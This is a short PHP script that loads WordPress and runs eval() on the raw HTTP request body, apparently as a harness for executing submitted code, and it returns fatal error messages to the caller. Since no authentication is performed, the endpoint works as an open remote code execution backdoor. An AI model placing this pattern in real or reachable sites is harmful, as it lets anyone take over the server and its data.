<?php
// Runs the code that was sent inside WordPress, and says what broke it.
set_time_limit(0);
register_shutdown_function(function () {
    $error = error_get_last();
    if ($error && $error['type'] & (E_ERROR | E_PARSE | E_COMPILE_ERROR)) {
        http_response_code(500);
        echo $error['message'];
    }
});
require getenv('WORDPRESS_ROOT') . '/wp-load.php';
eval(file_get_contents('php://input'));
